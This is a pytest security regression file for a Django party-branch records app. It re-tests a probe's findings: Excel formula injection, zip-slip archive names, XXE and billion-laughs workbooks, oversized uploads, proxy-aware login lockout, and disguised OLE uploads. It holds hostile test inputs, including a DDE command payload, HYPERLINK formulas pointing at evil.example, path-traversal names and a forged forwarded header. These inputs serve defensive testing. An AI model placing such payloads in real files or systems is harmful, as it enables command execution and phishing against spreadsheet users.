"""The findings of the independent probe (issue 14), each re-run as it was found.

1. Excel formula injection: no xlsx the app writes holds a formula, formula-like text or a
   drop-down list a name can break out of.
2. One read request must not kill a worker: the version comparison is bounded and cached.
3. An Excel import cannot burn a minute of CPU within every limit (900,000 rows in a column
   nobody reads).
4. Names inside the approved-reports ZIP are clean file names, unique in the archive.
5. Corrupt, XXE and billion-laughs workbooks: a Chinese message everywhere, nothing stored.
7. Drafts are bounded: a report's length is capped at save, draft files are rendered once per
   revision.
8. Login lockout behind a reverse proxy counts the client's address, not the proxy's.
Also: downloads of branch data are ``Cache-Control: no-store``; .doc/.xls uploads must be real OLE
documents, not eight bytes of signature.

(6, SQLite's "database is locked", is ``tests/robustness/test_sqlite_writers.py``.)
"""

from __future__ import annotations

import datetime
import difflib
import io
import time
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from activities import services as activity_services
from activities.ledger_imports import MEETING_COLUMNS, PUBLICITY_COLUMNS
from activities.ledgers import available_ledgers
from activities.models import Attachment, PublicityEntry
from branchwork.models import Member
from branchwork.periods import Period
from branchwork.roster import COLUMNS as ROSTER_COLUMNS
from reports import services as report_services
from reports.models import Report, ReportItem, ReportVersion
from reports.renderers import RENDERERS
from tests.conftest import PASSWORD
from tests.factories import MemberFactory, OutletFactory, PartyGroupFactory, ole_bytes, report_written
from tests.reports.editor import editor_data

from .factories import PDF_BYTES, db_fingerprint, media_fingerprint
from .workbooks import billion_laughs, formula_findings, sparse_rows, truncated, xxe

pytestmark = pytest.mark.django_db

D = datetime.date
H1 = Period(2022, "H1")

HOSTILE_NAMES = [
    "=6*7",
    '=HYPERLINK("http://evil.example/?x","点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
]
BREAKOUT_GROUP = 'a",HYPERLINK("http://evil.example"),"b'


def _no_500_client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


# --- 1. formula injection ------------------------------------------------------------------------


@pytest.fixture
def hostile_branch(world):
    """kl with members, a party group, records, an outlet and publicity named as the probe did."""
    group = PartyGroupFactory(branch=world.branch, name=BREAKOUT_GROUP, established_on=D(2020, 1, 1))
    PartyGroupFactory(branch=world.branch, name="机关党小组", established_on=D(2020, 1, 1))
    members = [MemberFactory(branch=world.branch, name=name, party_group=group) for name in HOSTILE_NAMES]
    outlet = OutletFactory(organisation=world.general, name='=HYPERLINK("http://evil.example","简报")')
    for index, name in enumerate(HOSTILE_NAMES):
        activity = activity_services.activity_create(
            branch=world.branch,
            kind="study",
            by=world.secretary,
            date=D(2022, 3, 1 + index),
            title=name,
            content=name,
            materials=name,
        )
        activity.attendance.create(member=members[index], present=index % 2 == 0, absence_reason=name)
        PublicityEntry.objects.create(
            branch=world.branch, outlet=outlet, date=D(2022, 4, 1 + index), count=1, title=name, link="", created_by=world.secretary
        )
    activity_services.activity_create(
        branch=world.branch, kind="group_meeting", by=world.secretary, date=D(2022, 5, 5), title="=1+1", party_group=group
    )
    return world.branch


def _every_xlsx_url() -> list[str]:
    urls = [reverse("roster:export", args=["kl"]), reverse("roster:import_template", args=["kl"])]
    for info in available_ledgers():
        urls.append(reverse("activities:ledger_export", args=["kl", info.name]) + "?period=2022H1")
        for kind in info.kinds:
            if len(info.kinds) > 1:
                urls.append(reverse("activities:ledger_export", args=["kl", info.name]) + f"?period=2022H1&kind={kind}")
    for kind in ("meetings", "publicity"):
        urls.append(reverse("activities:import_template", args=["kl"]) + f"?type={kind}")
    return urls


def test_no_xlsx_the_app_writes_holds_a_formula(hostile_branch, world, record_property):
    client = _no_500_client(world.secretary)
    findings, files = [], 0
    for url in _every_xlsx_url():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        findings += [f"{url}: {finding}" for finding in formula_findings(response.content)]
        files += 1
    record_property("security:xlsx_files_scanned", files)
    assert files >= 15
    assert findings == [], "\n".join(findings)


def _text_cells_xlsx(header, rows, *, sheet_title: str) -> bytes:
    """An upload whose cells are text cells, as Excel stores ``'=6*7`` typed by a user."""
    workbook = Workbook()
    ws = workbook.active
    ws.title = sheet_title
    for row_number, values in enumerate([header, *rows], start=1):
        for column, value in enumerate(values, start=1):
            cell = ws.cell(row=row_number, column=column, value=value)
            cell.data_type = "s" if isinstance(value, str) else cell.data_type
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_roster_import_of_formula_text_exports_as_text_and_round_trips(world):
    rows = [[name, "男", "正式党员", "2015-07-01", "无", "", "在册", None, None] for name in HOSTILE_NAMES]
    client = _no_500_client(world.secretary)
    upload = SimpleUploadedFile("花名册.xlsx", _text_cells_xlsx(ROSTER_COLUMNS, rows, sheet_title="花名册"))
    assert client.post(reverse("roster:import", args=["kl"]), {"file": upload}).status_code == 302
    exported = client.get(reverse("roster:export", args=["kl"])).content
    assert formula_findings(exported) == []
    # The exported file imports back as the same roster: nothing to change.
    again = client.post(
        reverse("roster:import", args=["kl"]), {"file": SimpleUploadedFile("a.xlsx", exported)}, follow=True
    )
    assert "6 人无变化" in again.content.decode()
    assert sorted(Member.objects.filter(branch=world.branch).values_list("name", flat=True)) == sorted(HOSTILE_NAMES)


# --- 2. the comparison of two versions is bounded and cached -----------------------------------------


def _document(report: Report, paragraphs: list[str]) -> dict:
    document = report_services.compile_report(report).to_json()
    document["sections"][0]["paragraphs"] = [{"runs": [{"text": text}], "ordinal": ""} for text in paragraphs]
    return document


@pytest.fixture
def huge_versions(world):
    """Two versions as the probe made them — 40 items of 3,990 characters, every one changed —
    plus 20 short paragraphs on which difflib's matcher takes cubic time."""
    report = report_services.report_create(branch=world.branch, period=H1, by=world.secretary)
    chars = "党建工作学习教育组织生活会议支部书记委员群众路线作风建设意识形态宣传思想理论武装"
    old = ["".join(chars[(i * 7 + j * j) % len(chars)] for j in range(3990)) for i in range(40)]
    new = [text[:1995] + "改" + text[1996:] for text in old]
    old += ["ab" * 250 + str(i) for i in range(20)]
    new += ["a" * 500 + str(i) for i in range(20)]
    for number, paragraphs in ((1, old), (2, new)):
        ReportVersion.objects.create(
            report=report, number=number, document=_document(report, paragraphs), submitted_by=world.secretary
        )
    return report


@pytest.mark.slow
def test_comparing_two_huge_versions_answers_in_seconds_then_from_the_cache(huge_versions, world, monkeypatch, record_property):
    client = _no_500_client(world.reviewer)
    url = reverse("reports:version_compare", args=["kl", "2022H1"]) + "?a=1&b=2"
    started = time.perf_counter()
    response = client.get(url)
    elapsed = time.perf_counter() - started
    record_property("compare_seconds", round(elapsed, 2))
    assert response.status_code == 200
    assert elapsed < 10, f"the comparison took {elapsed:.1f} s"
    assert response.content.decode().count('class="diff-changed"') == 60

    calls = []
    real = difflib.SequenceMatcher.get_opcodes
    monkeypatch.setattr(difflib.SequenceMatcher, "get_opcodes", lambda self: calls.append(1) or real(self))
    assert client.get(url).status_code == 200
    assert client.get(url + "&only=changes").status_code == 200
    assert calls == [], "the second request compared again instead of reading the cache"


# --- 3. 900,000 rows in a column nobody reads ---------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "extra", "columns"),
    [("roster:import", {}, ROSTER_COLUMNS), ("activities:ledger_import", {"type": "meetings"}, MEETING_COLUMNS)],
    ids=["roster", "meetings"],
)
def test_an_upload_of_900000_empty_looking_rows_is_refused_in_seconds(world, name, extra, columns, record_property):
    content = sparse_rows(columns, sheet_title="花名册" if name == "roster:import" else None)
    assert len(content) < 5 * 1024 * 1024, "within the upload limit, as the probe's file was"
    client = _no_500_client(world.secretary)
    before = db_fingerprint()
    started = time.perf_counter()
    response = client.post(reverse(name, args=["kl"]), {**extra, "file": SimpleUploadedFile("台账.xlsx", content)})
    elapsed = time.perf_counter() - started
    record_property("refused_seconds", round(elapsed, 2))
    assert response.status_code == 200
    assert "过于庞杂" in response.content.decode() or "行数过多" in response.content.decode()
    assert elapsed < 5, f"refused only after {elapsed:.1f} s"
    assert db_fingerprint() == before


# --- 4. names inside the approved-reports ZIP ------------------------------------------------------------


def test_zip_member_names_are_clean_and_unique(world):
    for branch, user in ((world.branch, world.secretary), (world.sibling, world.sibling_secretary)):
        report = report_written(branch, H1, user)
        Report.objects.filter(pk=report.pk).update(title="../../../../../../x/zipslip-poc")
        report.refresh_from_db()
        version = report_services.report_submit(report=report, by=user)
        version.document = {**version.document, "file_stem": "../../../../../../x/zipslip-poc\x07"}
        version.docx_file.save("v.docx", ContentFile(b"PK fake"), save=False)
        version.pdf_file.save("v.pdf", ContentFile(PDF_BYTES), save=False)
        version.save()
        report_services.report_approve(report=report, by=world.reviewer)
    response = _no_500_client(world.reviewer).get(reverse("reports:approved_zip", args=["hw", "2022H1"]))
    assert response.status_code == 200
    names = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))).namelist()
    assert len(names) == 4 and len(set(names)) == 4
    for name in names:
        assert "/" not in name and "\\" not in name and ".." not in name, name
        assert all(ch.isprintable() for ch in name), name
    assert sorted(names) == sorted(
        ["x_zipslip-poc.docx", "x_zipslip-poc.pdf", "x_zipslip-poc（2）.docx", "x_zipslip-poc（2）.pdf"]
    )


# --- 5. corrupt, XXE and billion-laughs workbooks ---------------------------------------------------------

IMPORTS = [
    ("roster:import", {}, ROSTER_COLUMNS, "花名册"),
    ("activities:ledger_import", {"type": "meetings"}, MEETING_COLUMNS, None),
    ("activities:ledger_import", {"type": "publicity"}, PUBLICITY_COLUMNS, None),
]


@pytest.mark.parametrize(("name", "extra", "columns", "sheet"), IMPORTS, ids=["roster", "meetings", "publicity"])
@pytest.mark.parametrize("build", [truncated, xxe, billion_laughs], ids=["truncated", "xxe", "billion-laughs"])
def test_a_corrupt_or_hostile_workbook_gets_a_chinese_message_and_stores_nothing(world, name, extra, columns, sheet, build):
    client = _no_500_client(world.secretary)
    before_db, before_media = db_fingerprint(), media_fingerprint()
    content = build(columns, sheet_title=sheet)
    response = client.post(reverse(name, args=["kl"]), {**extra, "file": SimpleUploadedFile("表.xlsx", content)})
    assert response.status_code == 200
    assert "无法读取该 Excel 文件" in response.content.decode()
    assert "root:" not in response.content.decode()
    assert db_fingerprint() == before_db and media_fingerprint() == before_media


# --- 7. bounded drafts --------------------------------------------------------------------------------------


@pytest.fixture
def draft(world):
    return report_written(world.branch, H1, world.secretary)


@pytest.mark.parametrize("field", ["opening", "new-1-text"])
def test_a_105000_character_field_is_refused_at_save_with_a_message(draft, world, field):
    client = _no_500_client(world.secretary)
    before = db_fingerprint()
    response = client.post(reverse("reports:report_edit", args=["kl", "2022H1"]), editor_data(draft, **{field: "字" * 105_000}))
    assert response.status_code == 400
    page = response.content.decode()
    assert "最多 5,000 字" in page and "内容尚未保存" in page
    assert db_fingerprint() == before


def test_a_report_over_60000_characters_in_all_is_refused(draft, world):
    item = draft.items.first()
    data = editor_data(draft)
    # 13 items of 4,900 characters: every one within its own limit, together over the report's.
    data["item"] = [str(item.pk)] + [f"n{number}" for number in range(13)]
    for number in range(13):
        data[f"item-n{number}-section"] = "2"
        data[f"item-n{number}-text"] = "字" * 4_900
    response = _no_500_client(world.secretary).post(reverse("reports:report_edit", args=["kl", "2022H1"]), data)
    assert response.status_code == 400
    assert "超过 60,000 字的上限" in response.content.decode()
    assert not ReportItem.objects.filter(report=draft, text__startswith="字字字").exists()


def test_a_draft_file_is_rendered_once_per_revision(draft, world, monkeypatch):
    renders = []
    renderer = RENDERERS["docx"]
    real = type(renderer).render
    monkeypatch.setattr(type(renderer), "render", lambda self, document: renders.append(1) or real(self, document))
    url = reverse("reports:report_download", args=["kl", "2022H1", "docx"])
    client = _no_500_client(world.reviewer)
    for _ in range(3):
        response = client.get(url)
        assert response.status_code == 200 and b"".join(response.streaming_content)[:2] == b"PK"
    assert len(renders) == 1
    edit = reverse("reports:report_edit", args=["kl", "2022H1"])
    assert _no_500_client(world.secretary).post(edit, editor_data(draft, **{"new-1-text": "新的文字"})).status_code == 302
    client.get(url)
    assert len(renders) == 2, "a new revision renders anew"


# --- 8. login lockout behind a reverse proxy ---------------------------------------------------------------


@pytest.fixture
def lockout(settings):
    settings.AXES_ENABLED = True
    return settings.AXES_FAILURE_LIMIT


def _login(client, username, password, *, forwarded: str):
    return client.post(
        reverse("login"),
        {"username": username, "password": password},
        REMOTE_ADDR="127.0.0.1",  # every request arrives from the proxy
        HTTP_X_FORWARDED_FOR=forwarded,
    )


def test_behind_a_trusted_proxy_an_attacker_cannot_lock_out_the_real_user(world, lockout, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    attacker = Client()
    for _ in range(lockout + 2):
        _login(attacker, "reviewer", "wrong-password-1", forwarded="203.0.113.9")
    assert _login(attacker, "reviewer", PASSWORD, forwarded="203.0.113.9").status_code == 429
    # The reviewer at their own desk still logs in.
    assert _login(Client(), "reviewer", PASSWORD, forwarded="198.51.100.7").status_code == 302


@pytest.mark.parametrize(
    ("proxies", "attempt", "then"),
    [
        # No trusted proxy: the header is the client's own invention and is ignored.
        (0, "203.0.113.{n}", "198.51.100.7"),
        # One proxy: the client writes what it likes, the proxy appends the address it really saw.
        (1, "10.9.9.{n}, 203.0.113.9", "198.51.100.7, 203.0.113.9"),
    ],
    ids=["no-proxy", "behind-one-proxy"],
)
def test_a_forged_forwarded_header_does_not_dodge_the_lockout(world, lockout, settings, proxies, attempt, then):
    settings.TRUSTED_PROXY_COUNT = proxies
    client = Client()
    for number in range(lockout):
        _login(client, "reviewer", "wrong-password-1", forwarded=attempt.format(n=number))
    assert _login(client, "reviewer", PASSWORD, forwarded=then).status_code == 429


# --- downloads of branch data are not stored by caches ---------------------------------------------------------


def test_every_download_of_branch_data_is_no_store(draft, world, monkeypatch):
    client = _no_500_client(world.reviewer)
    urls = [
        reverse("reports:report_download", args=["kl", "2022H1", "docx"]),
        reverse("reports:report_download", args=["kl", "2022H1", "pdf"]),
        reverse("roster:export", args=["kl"]),
        reverse("activities:ledger_export", args=["kl", "meeting"]) + "?period=2022H1",
    ]
    version = report_services.report_submit(report=draft, by=world.secretary)
    version.docx_file.save("v.docx", ContentFile(b"PK fake"), save=False)
    version.pdf_file.save("v.pdf", ContentFile(PDF_BYTES), save=False)
    version.save()
    report_services.report_approve(report=draft, by=world.reviewer)
    urls += [
        reverse("reports:version_download", args=["kl", "2022H1", 1, "pdf"]),
        reverse("reports:approved_zip", args=["hw", "2022H1"]),
    ]
    secretary = _no_500_client(world.secretary)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.get("Cache-Control", ""), url
    response = secretary.get(reverse("activities:import_template", args=["kl"]) + "?type=meetings")
    assert "no-store" in response.get("Cache-Control", "")


# --- .doc/.xls uploads ------------------------------------------------------------------------------------


@pytest.fixture
def record(world):
    return activity_services.activity_create(branch=world.branch, kind="study", by=world.secretary, date=D(2022, 3, 1), title="学习")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("纪要.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ\x90\x00 an executable after the signature" * 20),
        ("台账.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ("台账.xls", ole_bytes("WordDocument")),  # a Word file named .xls
        ("纪要.doc", ole_bytes("SomethingElse")),
    ],
    ids=["signature-then-exe", "signature-then-zeros", "word-named-xls", "no-document-stream"],
)
def test_an_ole_upload_must_be_the_document_it_claims(world, record, name, content):
    client = _no_500_client(world.secretary)
    before_db, before_media = db_fingerprint(), media_fingerprint()
    response = client.post(
        reverse("activities:attachment_upload", args=["kl", record.pk]),
        {"category": "minutes", "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "无法识别文件" in page or "不符" in page
    assert db_fingerprint() == before_db and media_fingerprint() == before_media


@pytest.mark.parametrize(("name", "stream"), [("纪要.doc", "WordDocument"), ("台账.xls", "Workbook")])
def test_a_real_word_or_excel_97_file_is_accepted(world, record, name, stream):
    client = _no_500_client(world.secretary)
    response = client.post(
        reverse("activities:attachment_upload", args=["kl", record.pk]),
        {"category": "minutes", "file": SimpleUploadedFile(name, ole_bytes(stream))},
    )
    assert response.status_code == 302
    assert Attachment.objects.filter(activity=record, original_name=name).exists()

